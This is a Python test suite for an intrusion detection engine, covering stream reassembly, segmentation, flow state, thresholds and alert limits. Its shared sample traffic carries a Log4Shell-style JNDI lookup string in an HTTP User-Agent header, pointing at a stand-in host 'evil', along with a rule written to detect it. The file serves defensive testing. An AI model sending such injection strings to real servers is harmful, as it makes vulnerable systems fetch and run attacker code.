from __future__ import annotations

import itertools
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.ids import craft
from tests.unit.ids.craft import ACK, RST, SYN, conversation, frames, handshake, tcp, udp

from outrider.ids.engine import Engine, Setup
from outrider.ids.flows.tcp import Options
from outrider.ids.rules.load import load
from outrider.ids.rules.tables import Tables
from outrider.ids.rules.variables import Variables


def events(rules: str, packets: list[bytes], setup: Setup | None = None, step: int = 1000) -> list[dict[str, Any]]:
    loaded = load([(rules, "t.rules")], Variables(), Tables())
    assert not loaded.refusals
    engine = Engine(loaded.signatures, setup or Setup())
    found = [event for frame in frames(packets, step) for event in engine.frame(frame)]
    return found + list(engine.finish())


def alerts(rules: str, packets: list[bytes], setup: Setup | None = None, step: int = 1000) -> list[int]:
    found = events(rules, packets, setup, step)
    return [event["alert"]["signature_id"] for event in found if event["event_type"] == "alert"]


TEXT = b"GET /index.html HTTP/1.0\r\nUser-Agent: ${jndi:ldap://evil/a}\r\n\r\n"
RULE = (
    'alert tcp any any -> any 80 (msg:"x"; flow:established,to_server; '
    'content:"${jndi:"; content:"evil"; distance:0; sid:1;)'
)


def test_an_alert_and_its_flow() -> None:
    found = events(RULE, conversation([(0, TEXT)]))
    alert = next(event for event in found if event["event_type"] == "alert")
    assert (alert["src_ip"], alert["src_port"], alert["dest_ip"], alert["dest_port"]) == (
        "10.0.0.1",
        4000,
        "10.0.0.2",
        80,
    )
    assert alert["alert"]["signature"] == "x"
    flow = next(event for event in found if event["event_type"] == "flow")
    assert flow["flow_id"] == alert["flow_id"]
    assert (flow["flow"]["state"], flow["flow"]["alerted"], flow["tcp"]["state"]) == ("closed", True, "closed")
    assert found[-1]["stats"]["detect"]["alert"] == 1


CUTS = st.lists(st.integers(1, len(TEXT) - 1), max_size=8)


@given(CUTS, st.randoms(use_true_random=False), st.integers(0, 5), st.booleans())
def test_any_segmentation_gives_the_same_alerts(cuts: list[int], order: Any, overlap: int, fast: bool) -> None:
    edges = sorted({0, len(TEXT), *cuts})
    segments = [
        (max(start - overlap, 0), TEXT[max(start - overlap, 0) : end]) for start, end in itertools.pairwise(edges)
    ]
    order.shuffle(segments)
    assert alerts(RULE, conversation(segments), Setup(fast=fast)) == [1]


@given(st.integers(0, 2**32 - 1), st.integers(0, 2**32 - 1))
def test_sequence_numbers_wrap(client: int, server: int) -> None:
    segments = [(0, TEXT[:20]), (20, TEXT[20:])]
    assert alerts(RULE, conversation(segments, client, server)) == [1]


def test_a_long_stream_is_looked_at_in_pieces_and_across_them() -> None:
    text = b"." * 2550 + b"${jndi:" + b"." * 2000 + b"evil" + b"." * 9000
    segments = [(at, text[at : at + 1000]) for at in range(0, len(text), 1000)]
    assert alerts(RULE, conversation(segments)) == [1]


def test_data_that_nobody_acknowledged_counts_at_the_end() -> None:
    packets = [*handshake(), tcp(ACK, 101, 501, TEXT)]
    assert alerts(RULE, packets) == [1]


def test_data_after_a_reset_does_not_count() -> None:
    packets = [*handshake(), tcp(RST | ACK, 101, 501), tcp(ACK, 101, 501, TEXT)]
    assert alerts('alert tcp-stream any any -> any any (content:"jndi"; sid:1;)', packets) == []


def test_a_connection_without_its_beginning_is_followed_if_asked() -> None:
    packets = [tcp(ACK, 101, 501, TEXT), tcp(ACK, 501, 101 + len(TEXT), answer=True)]
    assert alerts(RULE, packets) == []
    assert alerts(RULE, packets, Setup(tcp=Options(midstream=True))) == [1]


def test_wrong_sums_are_left_out_of_streams() -> None:
    packets = conversation([(0, TEXT)])
    packets[3] = packets[3][:-1] + b"X"
    rule = 'alert tcp-stream any any -> any any (content:"jndi"; sid:1;)'
    assert alerts(rule, packets) == []
    assert alerts(rule, packets, Setup(verify=False)) == [1]


def test_packets_and_streams_are_told_apart() -> None:
    halves = conversation([(0, b"EV"), (2, b"IL")])
    assert alerts('alert tcp-pkt any any -> any any (content:"EVIL"; sid:1;)', halves) == []
    assert alerts('alert tcp any any -> any any (content:"EVIL"; sid:1;)', halves) == [1]


def test_an_address_rule_alerts_once_each_way() -> None:
    assert alerts("alert ip 10.0.0.0/8 any -> any any (sid:1;)", conversation([(0, TEXT)])) == [1, 1]


def test_bits_are_set_before_they_are_asked_for() -> None:
    rules = (
        'alert udp any any -> any any (content:"b"; flowbits:isset,seen; sid:2;)\n'
        'alert udp any any -> any any (content:"a"; flowbits:set,seen; noalert; sid:1;)\n'
    )
    assert alerts(rules, [udp(b"b"), udp(b"a"), udp(b"b")]) == [2]
    assert alerts(rules, [udp(b"ab")]) == [2]


def test_a_pass_rule_lets_the_flow_go() -> None:
    rules = (
        'alert udp any any -> any any (content:"a"; sid:1;)\n'
        'pass udp any any -> any any (content:"ok"; flow:to_server; sid:2;)'
    )
    assert alerts(rules, [udp(b"a"), udp(b"a ok"), udp(b"a")]) == [1]


@pytest.mark.parametrize(
    ("kind", "wanted"),
    [
        ("threshold:type limit, track by_src, count 2, seconds 60;", 2),
        ("threshold:type threshold, track by_src, count 3, seconds 60;", 3),
        ("threshold:type both, track by_src, count 3, seconds 60;", 1),
        ("detection_filter:track by_src, count 4, seconds 60;", 6),
        ("threshold:type backoff, track by_flow, count 1, multiplier 3;", 3),
    ],
)
def test_thresholds(kind: str, wanted: int) -> None:
    rule = f'alert udp any any -> any any (content:"a"; {kind} sid:1;)'
    assert len(alerts(rule, [udp(b"a")] * 10)) == wanted


def test_no_more_alerts_of_one_packet_than_allowed() -> None:
    rules = "\n".join(f'alert udp any any -> any any (content:"a"; sid:{n};)' for n in range(1, 31))
    assert alerts(rules, [udp(b"a")]) == list(range(1, 16))
    assert len(alerts(rules, [udp(b"a")], Setup(alerts=20))) == 20


def test_a_quiet_flow_ends() -> None:
    found = events("alert ip any any -> any any (noalert; sid:1;)", [udp(b"a"), udp(b"a")], step=40_000_000)
    reasons = [event["flow"]["reason"] for event in found if event["event_type"] == "flow"]
    assert reasons == ["timeout", "shutdown"]


def test_many_beginnings_cost_bounded_memory() -> None:
    packets = [tcp(SYN, 1, ports=(port % 60_000 + 1, 80 + port // 60_000)) for port in range(70_000)]
    found = events("alert tcp any any -> any any (flags:S; noalert; sid:1;)", packets, step=1)
    assert found[-1]["stats"]["flow"]["memcap"] == 70_000 - 65_536


@given(st.lists(st.binary(max_size=80), max_size=6))
def test_garbage_is_no_fault(packets: list[bytes]) -> None:
    events(RULE, packets)


def test_craft_makes_right_sums() -> None:
    assert alerts("alert ip any any -> any any (sid:1;)", [craft.tcp(SYN, 1)]) == [1]
